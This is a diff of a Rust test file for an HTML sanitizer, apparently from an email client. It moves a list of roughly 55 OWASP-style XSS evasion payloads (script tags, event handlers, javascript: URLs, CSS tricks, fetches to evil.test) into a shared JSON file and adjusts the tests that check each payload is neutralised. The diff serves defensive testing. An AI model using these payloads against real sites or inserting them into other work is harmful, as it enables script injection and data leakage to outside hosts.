@@ -176,63 +176,10 @@ fn html_bombs_are_defused() {
     assert_eq!(clean(&attributes, Remote::Blocked, vec![]).html, "<p></p>");
 }
 
-/// From the XSS filter evasion sheet of OWASP, and from newsletters' own tricks.
-pub(crate) const TRICKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<IMG SRC=\"javascript:alert(1);\">",
-    "<IMG SRC=jAvAsCrIpT:alert(1)>",
-    "<IMG SRC=`javascript:alert(1)`>",
-    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href=\"jav\nascript:alert(1)\">x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
-    "<embed src=//evil.test/x.swf>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
-    "<base href=//evil.test/>",
-    "<link rel=stylesheet href=//evil.test/x.css>",
-    "<style>@import '//evil.test/x.css'; body { background: url(//evil.test/x) }</style>",
-    "<div style=\"background:url(//evil.test/x)\">x</div>",
-    "<div style=\"background:\\75rl(//evil.test/x)\">x</div>",
-    "<div style=\"back/**/ground:u/**/rl(//evil.test/x)\">x</div>",
-    "<div style=\"width:expression(alert(1))\">x</div>",
-    "<div style=\"position:fixed;top:0;left:0;width:9999px;height:9999px\">x</div>",
-    "<div style=\"list-style:url(//evil.test/x)\">x</div>",
-    "<div style=\"background-image:image-set('//evil.test/x' 1x)\">x</div>",
-    "<table background=\"//evil.test/x\"><tr><td background='http://evil.test/y'>x</td></tr></table>",
-    "<img src=\"//evil.test/x.png\" srcset=\"//evil.test/y.png 2x\" lowsrc=//evil.test/z>",
-    "<img src=\"http://evil.test/x.png\">",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-    "<form action=//evil.test><button formaction=javascript:alert(1)>x</button></form>",
-    "<a href=# ping=//evil.test>x</a>",
-    "<audio src=//evil.test/x></audio><video poster=//evil.test/x></video>",
-    "<p title=\"&quot;><script>alert(1)</script>\">x",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<template><script>alert(1)</script></template>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<plaintext><script>alert(1)</script>",
-    "\u{0}<scri\u{0}pt>alert(1)</scri\u{0}pt>",
-    "<frameset onload=alert(1)><frame src=//evil.test></frameset>",
-    "<area href=javascript:alert(1)><map name=x><area shape=default href=javascript:alert(1)></map>",
-    "<portal src=//evil.test></portal><xmp><script>alert(1)</script></xmp>",
-];
+/// From the XSS filter evasion sheet of OWASP, and from newsletters' own tricks; the browser test has the same ones.
+fn tricks() -> Vec<String> {
+    serde_json::from_str(include_str!("../../../../tests/browser/tricks.json")).unwrap()
+}
 
 /// No element, attribute or URL that runs or fetches is in there; judged by a reading of the output on its own.
 fn assert_harmless(html: &str, source: &str) {
@@ -305,10 +252,10 @@ fn assert_harmless(html: &str, source: &str) {
 
 #[test]
 fn no_trick_survives() {
-    for trick in TRICKS {
+    for trick in &tricks() {
         assert_harmless(&clean(trick, Remote::Blocked, vec![]).html, trick);
     }
-    let all = TRICKS.concat();
+    let all = tricks().concat();
     assert_harmless(&clean(&all, Remote::Blocked, vec![]).html, "all of them");
 }
 
@@ -318,7 +265,7 @@ fn cleaning_twice_changes_nothing() {
     let without_added = |html: &str| {
         html.replace(" target=\"_blank\"", "").replace(" rel=\"noopener noreferrer nofollow\"", "")
     };
-    for trick in TRICKS {
+    for trick in &tricks() {
         let once = clean(trick, Remote::Blocked, vec![]).html;
         let twice = clean(&once, Remote::Blocked, vec![]).html;
         assert_eq!(without_added(&twice), without_added(&once), "{trick}");
@@ -369,7 +316,7 @@ fn a_newsletters_layout_stays() {
 fn links_have_their_true_targets() {
     let raw = b"Content-Type: text/html\r\n\r\n<a href=\"https://evil.test/?a=1&amp;b=2\">https://<b>bank</b>.test/</a> \
         <a href='mailto:x@y'>write</a> <a>none</a> see https://plain.test/a_(b).";
-    let found = with(raw, |r| links(r));
+    let found = with(raw, links);
     let pairs: Vec<(&str, &str)> = found.iter().map(|l| (&*l.link, &*l.text)).collect();
     assert!(
         pairs.starts_with(&[("https://evil.test/?a=1&b=2", "https://bank.test/"), ("mailto:x@y", "write")]),
@@ -429,11 +376,12 @@ proptest! {
     }
 
     #[test]
-    fn no_mixture_of_tricks_survives(picks in proptest::collection::vec((0usize..TRICKS.len(), 0usize..60), 1..8)) {
+    fn no_mixture_of_tricks_survives(picks in proptest::collection::vec((any::<prop::sample::Index>(), 0usize..60), 1..8)) {
         // Tricks cut off in the middle and put together, as a filter would be taken by surprise.
+        let tricks = tricks();
         let mut source = String::new();
         for (trick, keep) in picks {
-            let trick = TRICKS[trick];
+            let trick = trick.get(&tricks);
             source.push_str(cut(trick, trick.len().min(keep)));
         }
         assert_harmless(&clean(&source, Remote::Blocked, vec![]).html, &source);
